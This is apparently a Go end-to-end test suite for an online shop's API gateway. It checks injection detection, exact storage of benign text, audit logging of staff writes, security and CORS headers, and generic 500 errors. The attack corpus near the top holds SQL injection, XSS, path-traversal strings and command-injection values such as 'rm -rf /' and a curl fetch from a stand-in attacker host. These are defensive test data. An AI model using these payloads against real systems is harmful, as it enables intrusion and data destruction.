package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/octo-drone-shop/serverless/shared/funcyaml"
	"github.com/octo-drone-shop/serverless/shared/manifest"
	"github.com/octo-drone-shop/serverless/shared/stacktest"
)

// attacks are sent in every string field, and in the query, of every public write route, with the
// attack_type each must be recorded as.
var attacks = []struct{ value, attackType string }{
	{`' OR '1'='1`, "sql_injection"},
	{`1; DROP TABLE orders; --`, "sql_injection"},
	{`<script>alert(document.cookie)</script>`, "xss"},
	{`<img src=x onerror=alert(1)>`, "xss"},
	{`../../../etc/passwd`, "path_traversal"},
	{`..%2f..%2fetc%2fpasswd`, "path_traversal"},
	{`x; rm -rf /`, "command_injection"},
	{`$(curl http://evil.example/x.sh)`, "command_injection"},
}

// benign is what customers write; it must pass every field of every public write route.
var benign = []string{
	`O'Brien`,
	`Séamus O'Brien-D'Arcy & Sons`,
	`drop-in replacement, select the 5 inch props`,
	`Apt #3, 221B Baker St -- back door; ring twice`,
	`He is 6' 2" -- "the one" <3`,
	`Order #1234; update: it arrived 10/10`,
}

// isWrite reports whether a route writes: POST, PUT or PATCH.
func isWrite(r manifest.BoundRoute) bool {
	return r.Method == http.MethodPost || r.Method == http.MethodPut || r.Method == http.MethodPatch
}

// eventsByType sums security_events.event_count per attack_type for the gateway's client address.
func eventsByType(t *testing.T, s *stack) map[string]int64 {
	t.Helper()
	rows, err := s.db.QueryContext(context.Background(),
		`SELECT attack_type, SUM(event_count) FROM security_events WHERE source_ip = :1 GROUP BY attack_type`, "127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	out := map[string]int64{}
	for rows.Next() {
		var k string
		var n int64
		if err := rows.Scan(&k, &n); err != nil {
			t.Fatal(err)
		}
		out[k] = n
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestAttackCorpus sends every attack in every string field and in the query of every public write
// route the bundle declares when the test runs: each is refused with 400 and recorded under its
// attack type.
func TestAttackCorpus(t *testing.T) {
	s := startStack(t)
	before := eventsByType(t, s)
	want := map[string]int64{}
	routes := 0
	for _, rt := range s.bundle.Routes() {
		if rt.Scope != manifest.Public || !isWrite(rt) {
			continue
		}
		mk, ok := publicWrites[rt.Pattern()]
		if !ok {
			t.Errorf("public write route %s (function %s) has no sample in publicWrites: add one so the corpus covers it", rt.Pattern(), rt.Function)
			continue
		}
		routes++
		t.Run(rt.Pattern(), func(t *testing.T) {
			req := mk(t, s)
			for _, a := range attacks {
				for _, field := range stringPaths(req.body, "") {
					res := s.do(t, rt.Method, req.path, with(req.body, field, a.value), req.header)
					if !rejectedByDetection(res) {
						t.Errorf("%s in %s: %d %s, want the 400 refusal", a.value, field, res.status, res.body)
					}
					want[a.attackType]++
				}
				res := s.do(t, rt.Method, req.path+"?q="+url.QueryEscape(a.value), req.body, req.header)
				if !rejectedByDetection(res) {
					t.Errorf("%s in the query: %d %s, want the 400 refusal", a.value, res.status, res.body)
				}
				want[a.attackType]++
			}
		})
	}
	if routes == 0 {
		t.Fatal("no public write route was found in the declarations")
	}
	after := eventsByType(t, s)
	for typ, n := range want {
		if got := after[typ] - before[typ]; got != n {
			t.Errorf("%d %s events recorded, want %d", got, typ, n)
		}
	}
}

// TestBenignCorpus sends every benign string in every string field of every public write route:
// none is refused by detection or recorded, and what checkout, reviews and leads store is what was
// sent, byte for byte.
func TestBenignCorpus(t *testing.T) {
	s := startStack(t)
	// Detection's events only: the login sample's wrong passwords are a brute force, and text in the
	// coupon's money field a wrongly typed value, both rightly recorded.
	events := func() int64 {
		return s.int(t, `SELECT COALESCE(SUM(event_count), 0) FROM security_events
WHERE attack_type IN ('sql_injection', 'xss', 'path_traversal', 'command_injection')`)
	}
	before := events()
	for _, rt := range s.bundle.Routes() {
		mk, ok := publicWrites[rt.Pattern()]
		if rt.Scope != manifest.Public || !isWrite(rt) || !ok {
			continue // TestAttackCorpus reports routes without a sample
		}
		t.Run(rt.Pattern(), func(t *testing.T) {
			for _, v := range benign {
				req := mk(t, s)
				for _, field := range stringPaths(req.body, "") {
					res := s.do(t, rt.Method, req.path, with(req.body, field, v), req.header)
					if rejectedByDetection(res) || res.status >= 500 {
						t.Errorf("%q in %s: %d %s", v, field, res.status, res.body)
					}
				}
				if res := s.do(t, rt.Method, req.path+"?q="+url.QueryEscape(v), req.body, req.header); rejectedByDetection(res) {
					t.Errorf("%q in the query was refused", v)
				}
			}
		})
	}
	if after := events(); after != before {
		t.Fatalf("benign requests recorded %d injection events", after-before)
	}

	t.Run("checkout_stores_names_and_addresses_byte_for_byte", func(t *testing.T) {
		req := publicWrites["POST /api/checkout"](t, s)
		customer := req.body["customer"].(map[string]any)
		customer["name"] = `Séamus O'Brien-D'Arcy`
		customer["company"] = `Drop-in Replacement -- Select Co. #2`
		req.body["shipping_address"] = "Apt #3, 221B Baker St -- back door;\nring twice, it's the \"blue\" one"
		res := s.do(t, "POST", req.path, req.body, req.header)
		var placed struct {
			Order struct {
				ID int64 `json:"id"`
			} `json:"order"`
		}
		err := json.Unmarshal([]byte(res.body), &placed)
		if order := placed.Order; err != nil || res.status != http.StatusCreated || order.ID == 0 {
			t.Fatalf("checkout: %d %s", res.status, res.body)
		}
		var name, company, address string
		err = s.db.QueryRowContext(context.Background(), `SELECT c.name, c.company, o.shipping_address
FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id = :1`, placed.Order.ID).Scan(&name, &company, &address)
		if err != nil {
			t.Fatal(err)
		}
		if name != customer["name"] || company != customer["company"] || address != req.body["shipping_address"] {
			t.Fatalf("stored %q %q %q", name, company, address)
		}
	})
	t.Run("reviews_store_the_text_byte_for_byte", func(t *testing.T) {
		req := publicWrites["POST /api/products/{id}/reviews"](t, s)
		req.body["title"] = `O'Brien's pick -- #1`
		req.body["comment"] = `Drop-in replacement, select the 5 inch props; "works" <3 -- 10/10`
		req.body["author_name"] = `D'Arcy & Sons`
		if res := s.do(t, "POST", req.path, req.body, nil); res.status != http.StatusCreated {
			t.Fatalf("review: %d %s", res.status, res.body)
		}
		n := s.int(t, `SELECT COUNT(*) FROM reviews WHERE title = :1 AND review_text = :2 AND author_name = :3`,
			req.body["title"], req.body["comment"], req.body["author_name"])
		if n != 1 {
			t.Fatalf("%d reviews stored with the exact text, want 1", n)
		}
	})
	t.Run("leads_store_the_text_byte_for_byte", func(t *testing.T) {
		req := publicWrites["POST /api/leads"](t, s)
		req.body["name"] = `Séamus O'Brien`
		req.body["company"] = `Drop-in -- #1 Select`
		req.body["message"] = `We need a drop-in replacement; select the 5 inch props, ship to Apt #3 -- rear`
		if res := s.do(t, "POST", req.path, req.body, nil); res.status >= 300 {
			t.Fatalf("lead: %d %s", res.status, res.body)
		}
		n := s.int(t, `SELECT COUNT(*) FROM leads WHERE name = :1 AND company = :2 AND message = :3`,
			req.body["name"], req.body["company"], req.body["message"])
		if n != 1 {
			t.Fatalf("%d leads stored with the exact text, want 1", n)
		}
	})
}

// staffWrites has a sample for every staff or admin POST, PUT, PATCH and DELETE route: each must
// write an audit row (security.Audit) in its transaction. A new one without a sample here fails
// TestStaffWritesAreAudited.
var workflowStaffWrites = map[string]sample{
	"POST /api/workflows/queries/{name}/run": func(*testing.T, *stack) request {
		return request{path: "/api/workflows/queries/orders_backlog/run", body: map[string]any{"max_rows": 5}}
	},
	"POST /api/workflows/select-ai": func(*testing.T, *stack) request {
		return request{path: "/api/workflows/select-ai", body: map[string]any{"prompt": "pending orders?", "action": "showsql"}}
	},
}

// notOnTheEmbeddedDatabase lists staff writes the embedded database can never serve: they must
// answer 501 there, and write nothing (no audit row either).
var notOnTheEmbeddedDatabase = map[string]bool{
	"POST /api/workflows/select-ai": true, // Select AI exists only on Autonomous Database
}

// staffWrites is every staff write's sample: the CRM's, the workflow gateway's and the admin functions'.
var staffWrites = func() map[string]sample {
	all := map[string]sample{}
	for _, m := range []map[string]sample{crmStaffWrites, workflowStaffWrites, adminStaffWrites} {
		for k, v := range m {
			all[k] = v
		}
	}
	return all
}()

// TestStaffWritesAreAudited sends every staff or admin write the bundle declares with an admin token
// and a known trace id: each must succeed and leave an audit_logs row with that trace id.
func TestStaffWritesAreAudited(t *testing.T) {
	bundle, err := funcyaml.Load(stacktest.Root())
	if err != nil {
		t.Fatal(err)
	}
	var routes []manifest.BoundRoute
	for _, rt := range bundle.Routes() {
		if (rt.Scope == manifest.Staff || rt.Scope == manifest.Admin) && (isWrite(rt) || rt.Method == http.MethodDelete) {
			routes = append(routes, rt)
		}
	}
	if len(routes) == 0 {
		t.Log("the bundle declares no staff or admin write route yet; security.Audit is tested in package security")
		return
	}
	s := startStack(t)
	admin := s.int(t, `SELECT id FROM users WHERE role = 'admin' ORDER BY id FETCH FIRST 1 ROWS ONLY`)
	for i, rt := range routes {
		mk, ok := staffWrites[rt.Pattern()]
		if !ok {
			t.Errorf("staff/admin write route %s has no sample in staffWrites: add one, and call security.Audit in its transaction", rt.Pattern())
			continue
		}
		t.Run(rt.Pattern(), func(t *testing.T) {
			req := mk(t, s)
			traceID := fmt.Sprintf("%030x%02x", 0xa11, i+1) // valid W3C hex, one per write
			header := map[string]string{"Authorization": "Bearer " + s.token(t, admin, "admin"),
				"Traceparent": "00-" + traceID + "-00f067aa0ba902b7-01"}
			for k, v := range req.header {
				header[k] = v
			}
			var body any
			if req.body != nil {
				body = req.body
			}
			res := s.do(t, rt.Method, req.path, body, header)
			if notOnTheEmbeddedDatabase[rt.Pattern()] {
				if res.status != http.StatusNotImplemented || s.int(t, `SELECT COUNT(*) FROM audit_logs WHERE trace_id = :1`, traceID) != 0 {
					t.Fatalf("on the embedded database: %d %s (want 501, nothing written)", res.status, res.body)
				}
				return
			}
			if res.status >= 300 {
				t.Fatalf("%d %s", res.status, res.body)
			}
			if n := s.int(t, `SELECT COUNT(*) FROM audit_logs WHERE trace_id = :1`, traceID); n < 1 {
				t.Fatalf("no audit row with the request's trace id %s", traceID)
			}
		})
	}
}

// TestHeadersAndPreflightThroughTheGateway checks what a browser sees: security headers on answers
// and errors, and CORS answered once, by the gateway (functions add none, even with OCTO_CORS_ORIGINS
// in their environment).
func TestHeadersAndPreflightThroughTheGateway(t *testing.T) {
	s := startStack(t)
	for _, tt := range []struct {
		name, method, path string
		status             int
	}{
		{"public_read", "GET", "/api/products?limit=1", 200},
		{"function_error", "GET", "/api/products/999999999", 404},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := s.do(t, tt.method, tt.path, nil, map[string]string{"Origin": allowedOrigin})
			if res.status != tt.status || res.header.Get("X-Content-Type-Options") != "nosniff" ||
				res.header.Get("X-Frame-Options") != "DENY" || res.header.Get("Access-Control-Allow-Origin") != allowedOrigin ||
				len(res.header.Values("Access-Control-Allow-Origin")) != 1 {
				t.Fatalf("%d %v", res.status, res.header)
			}
			if noStore := res.header.Get("Cache-Control") == "no-store"; noStore != (tt.status >= 400) {
				t.Fatalf("Cache-Control %q on a %d", res.header.Get("Cache-Control"), tt.status)
			}
		})
	}
	preflight := func(origin string) map[string]string {
		return map[string]string{"Origin": origin, "Access-Control-Request-Method": "POST",
			"Access-Control-Request-Headers": "content-type, idempotency-key"}
	}
	t.Run("preflight_from_the_shop_is_204", func(t *testing.T) {
		res := s.do(t, "OPTIONS", "/api/checkout", nil, preflight(allowedOrigin))
		if res.status != http.StatusNoContent || res.header.Get("Access-Control-Allow-Origin") != allowedOrigin ||
			!strings.Contains(res.header.Get("Access-Control-Allow-Headers"), "Idempotency-Key") {
			t.Fatalf("%d %v", res.status, res.header)
		}
	})
	t.Run("preflight_of_a_protected_route_needs_no_token", func(t *testing.T) {
		h := preflight(allowedOrigin)
		h["Access-Control-Request-Method"] = "GET"
		if res := s.do(t, "OPTIONS", "/api/orders", nil, h); res.status != http.StatusNoContent {
			t.Fatalf("%d %v %s", res.status, res.header, res.body)
		}
	})
	t.Run("preflight_from_another_origin_is_403", func(t *testing.T) {
		res := s.do(t, "OPTIONS", "/api/checkout", nil, preflight("https://evil.example"))
		if res.status != http.StatusForbidden || res.header.Get("Access-Control-Allow-Origin") != "" {
			t.Fatalf("%d %v", res.status, res.header)
		}
	})
}

// TestInternalErrorsCarryNoDetail breaks the database under a running function (a table disappears)
// and checks the answer: a 500 with the generic body, no SQL, no driver message, no stack.
func TestInternalErrorsCarryNoDetail(t *testing.T) {
	s := startStack(t)
	if _, err := s.db.ExecContext(context.Background(), `ALTER TABLE services RENAME TO services_gone`); err != nil {
		t.Fatal(err)
	}
	res := s.do(t, "GET", "/api/services", nil, nil)
	if res.status != http.StatusInternalServerError || errorCode(res) != "internal" || res.header.Get("Cache-Control") != "no-store" {
		t.Fatalf("%d %v %s, want a no-store 500 internal", res.status, res.header, res.body)
	}
	lower := strings.ToLower(res.body)
	for _, leak := range []string{"select", "services", "no such table", "sqlite", "sql", ".go:", "goroutine", "panic", "ora-"} {
		if strings.Contains(lower, leak) {
			t.Errorf("error body mentions %q: %s", leak, res.body)
		}
	}
}
